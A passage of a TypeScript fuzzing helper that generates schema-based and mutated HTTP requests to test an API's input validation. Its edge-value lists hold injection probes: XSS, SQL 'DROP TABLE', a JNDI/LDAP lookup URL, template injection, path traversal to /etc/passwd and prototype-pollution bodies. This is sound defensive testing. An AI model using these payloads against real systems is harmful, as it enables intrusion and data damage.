/**
 * fast-check arbitraries for fuzzing the HTTP API: requests built from a
 * route's zod schemas (valid shapes with edge values) and mutations of a
 * valid request (missing, extra, wrongly typed and duplicated fields,
 * `__proto__` keys, deep nesting, non-JSON bodies, hostile path parameters
 * and query strings). Driven by the route table, so a new route is fuzzed as
 * soon as it is added; a path parameter with no generator here is an error.
 */
import fc from 'fast-check';
import * as z from 'zod/mini';
import { addDays, todayInLondon } from '#shared/domain/calendar/calendar-date';
import { CALENDAR_FIRST_DATE, CALENDAR_LAST_DATE } from '#shared/domain/calendar/working-days';
import type { RouteDefinition } from '#shared/http/routes';

/** One generated request. */
export interface FuzzCase {
  /** Which family and attack made it, for the summary. */
  family: 'schema' | 'mutation';
  attacks: string[];
  method: string;
  /** The path as sent: segments already percent-encoded (or deliberately not). */
  path: string;
  /** The raw query string, without `?`. */
  query: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  caller: 'admin' | 'iro' | 'team-manager' | 'service-manager';
  /** The seeded child the path names, if any: its partition must be unchanged by a refusal. */
  target?: string;
}

/** What the seed made: real children and their records' ids. */
export interface SeedIds {
  children: {
    childId: string;
    episodeIds: string[];
    placementChangeIds: string[];
    strategyDiscussionIds: string[];
    registrationIds: string[];
    transferInIds: string[];
    disputeIds: string[];
    meetingIds: string[];
  }[];
  months: string[];
  /** Real calendar feeds' secrets, for `/calendar-feeds/{secret}`. */
  secrets: string[];
}

// ---------------------------------------------------------------- edge values

const today = todayInLondon(new Date());

export const EDGE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\n\r',
  'x'.repeat(10_000),
  'é'.repeat(10_000),
  '👩‍👩‍👧‍👦',
  '😀'.repeat(60),
  'مرحبا بالعالم',
  'abc\u202Eevil\u202C',
  '\u200B',
  '\u0000',
  'Ada\u0000Lovelace',
  'line\nbreak',
  '\u0007\u001b[31mred',
  '\uD800',
  'x\uDC00y',
  'e\u0301'.repeat(60),
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  '<script>alert(1)</script>',
  "'; DROP TABLE children; --",
  '${jndi:ldap://example.org/a}',
  '{{7*7}}',
  '%00',
  '%2e%2e%2f',
  '../../etc/passwd',
  'CHILD#00000000-0000-0000-0000-000000000000',
  '__proto__',
  'constructor',
  'ﬃ',
  'İstanbul',
];

/** Dates at the calendar's edges, impossible dates and dates not written yyyy-mm-dd. */
export const EDGE_DATES: readonly string[] = [
  '0000-01-01',
  '0001-01-01',
  '1900-02-29',
  '1969-12-31',
  '1970-01-01',
  '1999-12-31',
  '2000-02-29',
  '2100-02-29',
  '2023-02-29',
  '2024-02-29',
  '2025-02-29',
  '2025-02-30',
  '2025-04-31',
  '2025-13-01',
  '2025-00-10',
  '2025-01-00',
  '2025-01-32',
  '2025-1-1',
  '20250101',
  '2025-01-01T00:00:00Z',
  '2025-01-01 ',
  ' 2025-01-01',
  '2025-01-01\u0000',
  '+002025-01-01',
  '-2025-01-01',
  '9999-12-31',
  '2025/01/01',
  '01-01-2025',
  CALENDAR_FIRST_DATE,
  addDays(CALENDAR_FIRST_DATE, -1),
  CALENDAR_LAST_DATE,
  addDays(CALENDAR_LAST_DATE, 1),
  today,
  addDays(today, 1),
  addDays(today, 365),
];

const EDGE_NUMBER_TEXTS: readonly string[] = [
  '0', '1', '-1', '-0', '5', '99', '100', '101', '260', '261', '1000', '2009', '2010', '2024', '2035', '2036', '9999', '10000',
  '1.5', '1e2', '1e309', '-1e309', 'NaN', 'Infinity', '-Infinity', '0x10', '0b1', '0o7', ' 5', '5 ', '', ' ',
  '9007199254740993', '1'.repeat(400), '٣', '５', 'true', 'null', '[]', '{}', '1,2',
];

export const EDGE_JSON_VALUES: readonly unknown[] = [
  null, true, false, 0, -0, 1, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 'true', 'false', '1', '', [], {}, [null], { a: 1 },
  ['2025-01-01'], { $date: '2025-01-01' },
];

const VALID_EMAILS = ['iro.one@example.org', 'iro.two@example.org', 'tm.north@example.org', 'new.iro@example.org', 'Iro.One@Example.ORG'];
const EDGE_EMAILS = [
  'a@b', 'a@b.c', '@example.org', 'iro@', 'iro@@example.org', 'iro one@example.org', '"iro"@example.org', 'iro@example.org\u0000',
  'iro@example.org\n', 'ìro@exämple.org', `${'x'.repeat(245)}@example.org`, `${'x'.repeat(250)}@example.org`, 'iro@[127.0.0.1]',
  'iro+tag@example.org', 'iro@xn--exmple-cua.org',
];

// ------------------------------------------------------------ schema walking

type Def = { type: string; [key: string]: any };
const defOf = (schema: z.core.$ZodType): Def => (schema as unknown as { _zod: { def: Def } })._zod.def;

interface StringFacts {
  min?: number;
  max?: number;
  pattern?: RegExp;
  format?: string;
}

function stringFacts(def: Def): StringFacts {
  const facts: StringFacts = {};
  if (def['format']) facts.format = def['format'];
  for (const check of def['checks'] ?? []) {
    const c = check._zod.def;
    if (c.check === 'min_length') facts.min = c.minimum;
    if (c.check === 'max_length') facts.max = c.maximum;
    if (c.check === 'string_format' && c.format === 'regex') facts.pattern = c.pattern;
    if (c.check === 'string_format' && c.format !== 'regex') facts.format = c.format;
  }
  return facts;
}

const isoDate = (date: Date) => date.toISOString().slice(0, 10);
const pastDate = fc.date({ min: new Date('2011-01-01T00:00:00Z'), max: new Date(), noInvalidDate: true }).map(isoDate);

/** A value that the schema accepts (or very nearly: a business rule may still refuse it). */
export function validValue(schema: z.core.$ZodType): fc.Arbitrary<unknown> {
  const def = defOf(schema);
  switch (def.type) {
    case 'optional':
      return validValue(def['innerType']);
    case 'pipe':
      return validValue(def['in']);
    case 'object': {
      const shape = def['shape'] as Record<string, z.core.$ZodType>;
      const required: Record<string, fc.Arbitrary<unknown>> = {};
      const optional: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [key, field] of Object.entries(shape)) {
        (defOf(field).type === 'optional' ? optional : required)[key] = validValue(field);
      }
      const requiredKeys = Object.keys(required);
      const record = fc.record({ ...required, ...optional }, { requiredKeys });
      // The object's refinements (one of two fields, a field that goes with another, at least one field) are code
      // the walker cannot read: each value is held to the schema itself, and the rivals of a group mostly kept apart.
      const refined = (def['checks'] ?? []).length > 0;
      const shaped = rivalGroupsOf(shape).length > 0 ? fc.oneof(record, keepingRivalsApart(record, shape)) : record;
      return shaped.filter((value) => Object.keys(value).length > 0 && (!refined || z.safeParse(schema, value).success));
    }
    case 'string': {
      const facts = stringFacts(def);
      if (facts.format === 'date') return pastDate;
      if (facts.format === 'email') return fc.constantFrom(...VALID_EMAILS);
      if (facts.pattern) return fc.stringMatching(/^F-[A-Za-z0-9/_.-]{1,20}$/);
      return fc.oneof(fc.constantFrom('Ada', 'North Team', 'Moved to a foster placement', 'Zoë O’Brien-Ørsted'), fc.string({ minLength: 1, maxLength: 20 }).filter((s) => s.trim() !== ''));
    }
    case 'enum':
      return fc.constantFrom(...Object.values(def['entries'] as Record<string, string>));
    case 'literal':
      return fc.constantFrom(...(def['values'] as unknown[]));
    case 'boolean':
      return fc.boolean();
    case 'number': {
      const { min, max } = numberRange(def);
      const whole = (def['checks'] ?? []).some((check: { _zod: { def: Def } }) => check._zod.def['check'] === 'number_format');
      if (whole) return fc.integer({ min, max });
      // A fraction (an IRO's FTE): the bounds' own values, and doubles between them, each end excluded where the schema excludes it.
      const { minExcluded, maxExcluded } = numberBoundsExcluded(def);
      return fc.oneof(
        fc.constantFrom(...[min, max, (min + max) / 2].filter((value) => !(value === min && minExcluded) && !(value === max && maxExcluded))),
        fc.double({ min, max, minExcluded, maxExcluded, noNaN: true }),
      );
    }
    case 'union':
      return fc.oneof(...(def['options'] as z.core.$ZodType[]).map(validValue));
    case 'array': {
      const { min, max } = lengthRange(def);
      // Distinct items: a list of kinds (abuseTypes) names each once.
      return fc.uniqueArray(validValue(def['element']), { minLength: min, maxLength: max, selector: (item) => JSON.stringify(item) });
    }
    default:
      throw new Error(`fuzz: no generator for a zod ${def.type}; add one to test/support/fuzz-arbitraries.ts`);
  }
}

/**
 * Fields of one object of which a valid value gives at most one (a refinement, which the walker cannot read): a
 * registration's or a conference outcome's category, by Chart 4's name or by the kinds of abuse.
 */
const RIVAL_FIELDS: readonly (readonly string[])[] = [['category', 'abuseTypes']];

const rivalGroupsOf = (shape: Record<string, unknown>) => RIVAL_FIELDS.filter((group) => group.every((key) => key in shape));

/** The object with, of each group of rivals, one field or none (whichever it is given). */
function keepingRivalsApart(record: fc.Arbitrary<Record<string, unknown>>, shape: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const groups = rivalGroupsOf(shape);
  return fc.tuple(record, fc.tuple(...groups.map((group) => fc.constantFrom<string | undefined>(...group, undefined)))).map(([value, kept]) => {
    const apart = { ...value };
    groups.forEach((group, index) => {
      const given = group.filter((key) => key in value);
      if (given.length > 1) for (const key of given) if (key !== kept[index]) delete apart[key];
    });
    return apart;
  });
}

/** An array's least and most items (its `.min()` and `.max()`; at most 8 when it names none). */
function lengthRange(def: Def): { min: number; max: number } {
  let min = 0;
  let max = 8;
  for (const check of def['checks'] ?? []) {
    const c = check._zod.def;
    if (c.check === 'min_length') min = c.minimum;
    if (c.check === 'max_length') max = c.maximum;
  }
  return { min, max };
}

function numberRange(def: Def): { min: number; max: number } {
  let min = -1000;
  let max = 1000;
  for (const check of def['checks'] ?? []) {
    const c = check._zod.def;
    if (c.check === 'greater_than') min = Number(c.value);
    if (c.check === 'less_than') max = Number(c.value);
  }
  return { min, max };
}

/** Whether a number's bounds are themselves out (`.gt()`, `.lt()`) or in (`.min()`, `.max()`). */
function numberBoundsExcluded(def: Def): { minExcluded: boolean; maxExcluded: boolean } {
  let minExcluded = false;
  let maxExcluded = false;
  for (const check of def['checks'] ?? []) {
    const c = check._zod.def;
    if (c.check === 'greater_than') minExcluded = !c.inclusive;
    if (c.check === 'less_than') maxExcluded = !c.inclusive;
  }
  return { minExcluded, maxExcluded };
}

/** A value of the field's kind at its edges: valid, just outside, hostile. */
export function edgeValue(schema: z.core.$ZodType): fc.Arbitrary<unknown> {
  const def = defOf(schema);
  switch (def.type) {
    case 'optional':
      return edgeValue(def['innerType']);
    case 'pipe':
      return edgeValue(def['in']);
    case 'object': {
      const shape = def['shape'] as Record<string, z.core.$ZodType>;
      const fields = Object.fromEntries(
        Object.entries(shape).map(([key, field]) => [key, fc.oneof({ weight: 2, arbitrary: validValue(field) }, { weight: 3, arbitrary: edgeValue(field) })]),
      );
      const requiredKeys = Object.keys(shape).filter((key) => defOf(shape[key]!).type !== 'optional');
      const record = fc.record(fields, { requiredKeys });
      return rivalGroupsOf(shape).length > 0 ? fc.oneof(record, keepingRivalsApart(record, shape)) : record;
    }
    case 'string': {
      const facts = stringFacts(def);
      const lengths: fc.Arbitrary<string>[] = [];
      if (facts.max !== undefined) {
        lengths.push(fc.constantFrom('x'.repeat(facts.max), 'x'.repeat(facts.max + 1), `${'😀'.repeat(Math.ceil(facts.max / 2))}`, ` ${'y'.repeat(facts.max)} `));
      }
      const specific =
        facts.format === 'date' ? fc.constantFrom(...EDGE_DATES) :
        facts.format === 'email' ? fc.constantFrom(...EDGE_EMAILS, ...VALID_EMAILS) :
        facts.pattern ? fc.constantFrom('A', 'a/b', 'a/../../x', '-A1', '.hidden', 'A1\u0000', 'A1\n', 'A 1', 'Ä1', 'A'.repeat(64), 'A'.repeat(65), '\uD800A') :
        fc.constantFrom(...EDGE_STRINGS);
      return fc.oneof(
        { weight: 4, arbitrary: specific },
        { weight: 2, arbitrary: fc.constantFrom(...EDGE_STRINGS) },
        { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
        { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
        ...lengths.map((arbitrary) => ({ weight: 1, arbitrary })),
        { weight: 1, arbitrary: fc.constantFrom(...EDGE_JSON_VALUES) },
      );
    }
    case 'enum': {
      const entries = Object.values(def['entries'] as Record<string, string>);
      return fc.oneof(
        fc.constantFrom(...entries),
        fc.constantFrom(...entries.map((e) => e.toUpperCase()), ...entries.map((e) => ` ${e}`), ...entries.map((e) => `${e}\u0000`)),
        fc.constantFrom(...EDGE_STRINGS),
        fc.constantFrom(...EDGE_JSON_VALUES),
      );
    }
    case 'literal':
      return fc.oneof(fc.constantFrom(...(def['values'] as unknown[])), fc.constantFrom(...EDGE_STRINGS), fc.constantFrom(...EDGE_JSON_VALUES));
    case 'boolean':
      return fc.oneof(fc.boolean(), fc.constantFrom('true', 'false', 0, 1, null, 'yes', [], {}, [true]));
    case 'number':
      // Numbers as text (a query's, or a body's wrongly typed), and as JSON numbers at a fraction's edges (an FTE).
      return fc.oneof(fc.constantFrom(...EDGE_NUMBER_TEXTS), fc.constantFrom(0, -0, 1, 1.000_000_1, 0.6, 5e-324, -1, 37, 1e308));
    case 'union':
      return fc.oneof(...(def['options'] as z.core.$ZodType[]).map(edgeValue), fc.constantFrom(...EDGE_JSON_VALUES));
    case 'array': {
      const { min, max } = lengthRange(def);
      const element = def['element'] as z.core.$ZodType;
      const valid = validValue(element);
      return fc.oneof(
        // In range, each item valid or at its edges.
        { weight: 3, arbitrary: fc.array(fc.oneof(valid, edgeValue(element)), { minLength: min, maxLength: max }) },
        // Just outside the lengths: more than the most (so an item twice), none at all, a null item.
        { weight: 1, arbitrary: fc.array(valid, { minLength: max + 1, maxLength: max + 2 }) },
        { weight: 1, arbitrary: fc.constantFrom<unknown[]>([], [null]) },
        // The same item twice, and far too many items.
        { weight: 1, arbitrary: valid.map((item) => [item, item]) },
        { weight: 1, arbitrary: valid.map((item) => Array.from({ length: 10_000 }, () => item)) },
        // Not a list: one item bare, a list in a list, other JSON.
        { weight: 1, arbitrary: valid },
        { weight: 1, arbitrary: fc.array(valid, { minLength: 1, maxLength: 2 }).map((items) => [items]) },
        { weight: 1, arbitrary: fc.constantFrom(...EDGE_JSON_VALUES) },
      );
    }
    default:
      throw new Error(`fuzz: no edge generator for a zod ${def.type}; add one to test/support/fuzz-arbitraries.ts`);
  }
}

/** The keys an object schema takes (for query strings and missing/extra field attacks). */
export function keysOf(schema: z.core.$ZodType | undefined): string[] {
  if (!schema) return [];
  const def = defOf(schema);
  return def.type === 'object' ? Object.keys(def['shape']) : [];
}

// ------------------------------------------------------------ path parameters

const HOSTILE_IDS: readonly string[] = [
  '', '.', '..', '%2e%2e', '%2E%2E%2F', '..%2F..%2Fsnapshots', 'a%2Fb', '%2F', '%00', '%E0%A4%A', '%', '%zz', '%F0%9F%98%80', '%D8%00',
  '00000000-0000-0000-0000-000000000000', 'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF', '{00000000-0000-0000-0000-000000000000}',
  '00000000000000000000000000000000', 'x'.repeat(5000), '%20', 'null', 'undefined', '__proto__', 'constructor', 'toString',
  'CHILD%23x', '1%20OR%201%3D1', '*', '-1', '0', '1e9',
];

const HOSTILE_MONTHS: readonly string[] = [
  '2025-1', '2025-13', '2025-00', '0000-01', '0001-01', '1900-01', '2009-12', '9999-12', '10000-01', '2025-01-01', '202501', '-2025-01',
  `${CALENDAR_FIRST_DATE.slice(0, 7)}`, `${CALENDAR_LAST_DATE.slice(0, 7)}`, `${addDays(CALENDAR_LAST_DATE, 1).slice(0, 7)}`,
  `${addDays(CALENDAR_FIRST_DATE, -1).slice(0, 7)}`, today.slice(0, 7), addDays(today, 400).slice(0, 7),
];

/** Percent-encodes a value; a lone surrogate (no UTF-8 for it) goes as the bytes WTF-8 would give it. */
const encode = (value: string): string =>
  Array.from(value, (char) => {
    const code = char.codePointAt(0)!;
    if (code >= 0xd800 && code <= 0xdfff) {
      return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
    }
    return encodeURIComponent(char);
  }).join('');

interface PathChoice {
  segments: Record<string, string>;
  target?: string;
  attacks: string[];
}

/** Path parameters naming seeded records (valid) or, with `hostile`, ids that are not ids. */
function pathParameters(route: RouteDefinition, seed: SeedIds, hostile: boolean): fc.Arbitrary<PathChoice> {
  const names = [...route.path.matchAll(/\{(\w+)\}/g)].map((match) => match[1]!);
  if (names.length === 0) return fc.constant({ segments: {}, attacks: [] });
  const child = fc.constantFrom(...seed.children);
  return fc.tuple(child, fc.constantFrom(...seed.children), fc.array(fc.boolean(), { minLength: names.length, maxLength: names.length })).chain(([own, other, hostileMask]) => {
    const perName = names.map((name, index) => {
      const attack = hostile && (hostileMask[index] || names.length === 1);
      const ownIds = recordIdsOf(name, own, seed);
      const otherIds = name === 'childId' ? [other.childId] : recordIdsOf(name, other, seed);
      if (!attack) return fc.constantFrom(...ownIds.map(encode)).map((value) => ({ name, value, attack: undefined as string | undefined }));
      return fc.oneof(
        fc.constantFrom(...(name === 'month' ? HOSTILE_MONTHS.map(encode) : name === 'email' ? [...HOSTILE_IDS, ...EDGE_EMAILS.map(encode)] : HOSTILE_IDS)).map((value) => ({ name, value, attack: `path:${name}:hostile` })),
        fc.constantFrom(...otherIds.map(encode)).map((value) => ({ name, value, attack: `path:${name}:another-record` })),
        fc.constantFrom(...ownIds).map((value) => ({ name, value: value.toUpperCase(), attack: `path:${name}:upper-case` })),
        fc.constantFrom(...ownIds).map((value) => ({ name, value: `${value}%00`, attack: `path:${name}:nul-suffix` })),
        fc.constantFrom(...ownIds).map((value) => ({ name, value: `${value}%2F..`, attack: `path:${name}:encoded-slash` })),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }).map((value) => ({ name, value: encode(value), attack: `path:${name}:random` })),
      );
    });
    return fc.tuple(...perName).map((chosen) => {
      const segments = Object.fromEntries(chosen.map((c) => [c.name, c.value]));
      const targetChild = names.includes('childId') ? own.childId : undefined;
      return {
        segments,
        ...(targetChild ? { target: targetChild } : {}),
        attacks: chosen.flatMap((c) => (c.attack ? [c.attack] : [])),
      };
    });
  });
}

function recordIdsOf(name: string, child: SeedIds['children'][number], seed: SeedIds): string[] {
  switch (name) {
    case 'childId':
      return [child.childId];
    case 'episodeId':
      return child.episodeIds;
    case 'placementChangeId':
      return child.placementChangeIds;
    case 'strategyDiscussionId':
      return child.strategyDiscussionIds;
    case 'registrationId':
      return child.registrationIds;
    case 'transferInId':
      return child.transferInIds;
    case 'disputeId':
      return child.disputeIds;
    case 'meetingId':
      return child.meetingIds;
    case 'month':
      return seed.months;
    case 'email':
      // An IRO of the directory, by email: a PUT creates or replaces their entry.
      return VALID_EMAILS;
    case 'kind':
      // The kinds of timescale a meeting meets; the seeded child has a CER, an RCPC and a core group due among them.
      return ['CER', 'ICPC', 'RCPC', 'MIDPOINT', 'CORE_GROUP', 'TRANSFER_IN'];
    case 'secret':
      return seed.secrets;
    default:
      throw new Error(`fuzz: no generator for the path parameter {${name}}; add one to test/support/fuzz-arbitraries.ts`);
  }
}

const fillPath = (path: string, segments: Record<string, string>) => path.replace(/\{(\w+)\}/g, (_, name: string) => segments[name] ?? '');

// ----------------------------------------------------------------- requests

const callers = fc.constantFrom<FuzzCase['caller']>('admin', 'admin', 'admin', 'admin', 'admin', 'admin', 'iro', 'team-manager', 'service-manager');

/**
 * API Gateway refuses a request line and headers over 10 KB itself (the local adapter's Node server at 16 KB, with
 * an empty 431): such requests never reach the function, so query values are kept to what can.
 */
const MAX_ENCODED_QUERY_VALUE = 4_000;
const fitting = (value: string) => {
  let fitted = value;
  while (encode(fitted).length > MAX_ENCODED_QUERY_VALUE) fitted = fitted.slice(0, Math.floor(fitted.length / 2));
  return fitted;
};
const toQuery = (pairs: readonly (readonly [string, string])[]) => pairs.map(([k, v]) => `${encode(k)}=${encode(fitting(v))}`).join('&');

function queryPairs(schema: z.core.$ZodType | undefined, edges: boolean): fc.Arbitrary<[string, string][]> {
  if (!schema) return fc.constant([]);
  const def = defOf(schema);
  const shape = def['shape'] as Record<string, z.core.$ZodType>;
  const fields = Object.entries(shape).map(([key, field]) => {
    const required = defOf(field).type !== 'optional';
    const value = (edges ? fc.oneof(validValue(field), edgeValue(field)) : validValue(field)).map((v) => (typeof v === 'string' ? v : JSON.stringify(v) ?? ''));
    const pair = value.map((v): [string, string][] => [[key, v]]);
    return required ? pair : fc.oneof(fc.constant([] as [string, string][]), pair);
  });
  return fc.tuple(...fields).map((parts) => parts.flat());
}

/** A request the route should accept, or refuse only for a business rule. */
function validRequest(route: RouteDefinition, seed: SeedIds): fc.Arbitrary<Mutable> {
  return fc
    .record({
      path: pathParameters(route, seed, false),
      query: queryPairs(route.query?.(), false),
      body: route.body ? validValue(route.body()) : fc.constant(undefined),
      caller: callers,
    })
    .map(({ path, query, body, caller }) => ({
      family: 'mutation' as const,
      attacks: [],
      method: route.method,
      path: fillPath(route.path, path.segments),
      query: toQuery(query),
      headers: (body === undefined ? {} : { 'content-type': 'application/json' }) as Record<string, string>,
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      caller,
      ...(path.target ? { target: path.target } : {}),
      parsedBody: body,
      queryPairs: query,
      segments: path.segments,
    }));
}

/** Family (a): shapes the schema describes, with edge values in every field. */
export function schemaCase(route: RouteDefinition, seed: SeedIds): fc.Arbitrary<FuzzCase> {
  return fc
    .record({
      path: fc.oneof({ weight: 4, arbitrary: pathParameters(route, seed, false) }, { weight: 1, arbitrary: pathParameters(route, seed, true) }),
      query: queryPairs(route.query?.(), true),
      body: route.body ? edgeValue(route.body()) : fc.constant(undefined),
      caller: callers,
    })
    .map(({ path, query, body, caller }) => ({
      family: 'schema' as const,
      attacks: ['schema:edge-values', ...path.attacks],
      method: route.method,
      path: fillPath(route.path, path.segments),
      query: toQuery(query),
      headers: (body === undefined ? {} : { 'content-type': 'application/json' }) as Record<string, string>,
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      caller,
      ...(path.target ? { target: path.target } : {}),
    }));
}

type Mutable = FuzzCase & { parsedBody?: unknown; queryPairs: [string, string][]; segments: Record<string, string> };
type Mutation = { name: string; apply: (c: Mutable) => Mutable };

const nested = (depth: number, open: string, close: string, inner = '1') => `${open.repeat(depth)}${inner}${close.repeat(depth)}`;

function bodyMutations(route: RouteDefinition): fc.Arbitrary<Mutation> {
  const keys = keysOf(route.body?.());
  const withText = (name: string, text: (c: Mutable) => string | Buffer, headers?: Record<string, string>): Mutation => ({
    name,
    apply: (c) => ({ ...c, body: text(c), headers: { ...c.headers, ...(headers ?? { 'content-type': 'application/json' }) } }),
  });
  const objectBody = (c: Mutable): Record<string, unknown> =>
    c.parsedBody && typeof c.parsedBody === 'object' && !Array.isArray(c.parsedBody) ? (c.parsedBody as Record<string, unknown>) : {};
  const bodyText = (c: Mutable) => JSON.stringify(objectBody(c));
  const spliceKey = (c: Mutable, keyValue: string) => {
    const text = bodyText(c);
    return text === '{}' ? `{${keyValue}}` : `${text.slice(0, -1)},${keyValue}}`;
  };
  const field = keys.length ? fc.constantFrom(...keys) : fc.constant('reference');
  return fc.oneof(
    field.map((key) => withText('body:missing-field', (c) => { const { [key]: _, ...rest } = objectBody(c); return JSON.stringify(rest); })),
    fc.tuple(fc.constantFrom('favouriteColour', 'childId', 'version', 'PK', 'SK', 'createdAt', 'status', 'isAdmin', 'iroEmail', ''), fc.constantFrom<unknown>('x', 1, null, { a: 1 }))
      .map(([key, value]) => withText('body:extra-field', (c) => JSON.stringify({ ...objectBody(c), [key]: value }))),
    fc.tuple(field, fc.constantFrom(...EDGE_JSON_VALUES)).map(([key, value]) => withText('body:wrong-type', (c) => JSON.stringify({ ...objectBody(c), [key]: value }))),
    fc.tuple(field, fc.constantFrom<unknown>('x', 0, null, 'x'.repeat(10_000), '2025-02-30', { a: 1 })).map(([key, value]) =>
      withText('body:duplicated-field', (c) => spliceKey(c, `${JSON.stringify(key)}:${JSON.stringify(value)}`)),
    ),
    fc.tuple(field, fc.constantFrom<unknown>('x', 0, null)).map(([key, value]) =>
      // The hostile value first, the valid one last: JSON.parse keeps the last.
      withText('body:duplicated-field-first', (c) => { const text = bodyText(c); return `{${JSON.stringify(key)}:${JSON.stringify(value)}${text === '{}' ? '' : ','}${text.slice(1)}`; }),
    ),
    fc.constantFrom('__proto__', 'constructor', 'prototype', '__defineGetter__', 'hasOwnProperty', 'toString').chain((key) =>
      fc.constantFrom(
        withText(`body:${key}-key`, (c) => spliceKey(c, `${JSON.stringify(key)}:{"isAdmin":true,"polluted":"yes","iroEmail":"iro.two@example.org"}`)),
        withText(`body:nested-${key}-key`, (c) => spliceKey(c, `"outcome":{"decision":"register","category":"Neglect",${JSON.stringify(key)}:{"polluted":"yes"}}`)),
        withText(`body:${key}-string`, (c) => spliceKey(c, `${JSON.stringify(key)}:"polluted"`)),
      ),
    ),
    fc.constantFrom(1_000, 10_000, 100_000).chain((depth) =>
      fc.constantFrom(
        withText(`body:nested-arrays-${depth}`, () => nested(depth, '[', ']')),
        withText(`body:nested-objects-${depth}`, () => nested(depth, '{"a":', '}')),
        withText(`body:nested-in-field-${depth}`, (c) => spliceKey(c, `${JSON.stringify(keys[0] ?? 'a')}:${nested(depth, '[', ']')}`)),
      ),
    ),
    fc.constantFrom(
      withText('body:array-for-object', (c) => JSON.stringify([objectBody(c)])),
      withText('body:empty-array', () => '[]'),
      withText('body:null', () => 'null'),
      withText('body:string', () => '"hello"'),
      withText('body:number', () => '42'),
      withText('body:empty-object', () => '{}'),
      withText('body:truncated-json', (c) => bodyText(c).slice(0, -1)),
      withText('body:trailing-comma', (c) => `${bodyText(c).slice(0, -1)},}`),
      withText('body:single-quotes', (c) => bodyText(c).replace(/"/g, "'")),
      withText('body:json-with-comments', (c) => `/* hi */${bodyText(c)}`),
      withText('body:bom', (c) => `\uFEFF${bodyText(c)}`),
      withText('body:nan', (c) => spliceKey(c, '"n":NaN')),
      withText('body:two-documents', (c) => `${bodyText(c)}${bodyText(c)}`),
      withText('body:invalid-utf8', (c) => Buffer.concat([Buffer.from(bodyText(c).slice(0, -1)), Buffer.from(',"x":"'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}')])),
      withText('body:utf16', (c) => Buffer.from(bodyText(c), 'utf16le')),
      withText('body:whitespace-only', () => '   \n '),
      withText('body:nul-bytes', () => '\u0000\u0000'),
      withText('body:form-encoded', () => 'reference=A1&givenName=Ada', { 'content-type': 'application/x-www-form-urlencoded' }),
      withText('body:text-plain-json', (c) => bodyText(c), { 'content-type': 'text/plain' }),
      withText('body:no-content-type', (c) => bodyText(c), {}),
      withText('body:octet-stream', (c) => bodyText(c), { 'content-type': 'application/octet-stream' }),
      withText('body:xml', () => '<child><reference>A1</reference></child>', { 'content-type': 'application/xml' }),
      withText('body:multipart', () => '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--', { 'content-type': 'multipart/form-data; boundary=x' }),
      withText('body:json-charset-latin1', (c) => bodyText(c), { 'content-type': 'application/json; charset=iso-8859-1' }),
      withText('body:problem-json', (c) => bodyText(c), { 'content-type': 'application/merge-patch+json' }),
      withText('body:content-type-injection', (c) => bodyText(c), { 'content-type': 'text/html; x=application/json' }),
      withText('body:large-string', (c) => JSON.stringify({ ...objectBody(c), [keys[0] ?? 'a']: 'x'.repeat(200_000) })),
      withText('body:many-keys', () => JSON.stringify(Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`k${i}`, i])))),
    ),
  );
}

function queryMutations(route: RouteDefinition): fc.Arbitrary<Mutation> {
  const keys = keysOf(route.query?.());
  const key = keys.length ? fc.constantFrom(...keys) : fc.constantFrom('asOf', 'limit', 'cursor', 'format');
  const add = (name: string, pairs: (c: Mutable) => [string, string][]): Mutation => ({ name, apply: (c) => ({ ...c, queryPairs: pairs(c), query: toQuery(pairs(c)) }) });
  return fc.oneof(
    fc.tuple(fc.constantFrom('unknown', 'debug', 'admin', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '', 'a[b]', 'limit[]'), fc.constantFrom('1', 'true', '', 'x'.repeat(100)))
      .map(([k, v]) => add('query:unknown-key', (c) => [...c.queryPairs, [k, v]])),
    fc.tuple(key, fc.constantFrom('1', '2025-01-01', 'csv', 'x', '')).map(([k, v]) => add('query:repeated-key', (c) => [...c.queryPairs, [k, v], [k, v]])),
    fc.tuple(key, fc.constantFrom('x'.repeat(2049), 'x'.repeat(4000), '9'.repeat(3000), '😀'.repeat(330))).map(([k, v]) => add('query:huge-value', (c) => [...c.queryPairs.filter(([n]) => n !== k), [k, v]])),
    fc.tuple(key, fc.constantFrom(...EDGE_NUMBER_TEXTS, ...EDGE_STRINGS.filter((s) => s.length < 200), ...EDGE_DATES)).map(([k, v]) =>
      add('query:wrong-type', (c) => [...c.queryPairs.filter(([n]) => n !== k), [k, v]]),
    ),
    fc.constant<Mutation>({ name: 'query:raw-garbage', apply: (c) => ({ ...c, query: `${c.query}&%zz=%E0%A4%A&&=&a==b&;x` }) }),
    fc.constant<Mutation>({ name: 'query:many-keys', apply: (c) => ({ ...c, query: Array.from({ length: 400 }, (_, i) => `k${i}=${i}`).join('&') }) }),
  );
}

function headerMutations(): fc.Arbitrary<Mutation> {
  const set = (name: string, headers: Record<string, string>): Mutation => ({ name, apply: (c) => ({ ...c, headers: { ...c.headers, ...headers } }) });
  return fc.oneof(
    fc.constantFrom('"1"', '"999999"', 'W/"1"', '*', '', '"x"', '1', '"1", "2"').map((v) => set('header:if-match', { 'if-match': v })),
    fc.constantFrom('k-1', '', 'x'.repeat(129), 'a b', 'é', '../x', 'k:1').map((v) => set('header:idempotency-key', { 'idempotency-key': encodeURI(v) })),
    fc.constantFrom('text/csv', 'application/xml', '*/*', 'text/csv;q=0, application/json').map((v) => set('header:accept', { accept: v })),
    fc.constant(set('header:content-encoding', { 'content-encoding': 'gzip' })),
  );
}

/** Family (b): a valid request with one to three things done to it. */
export function mutationCase(route: RouteDefinition, seed: SeedIds): fc.Arbitrary<FuzzCase> {
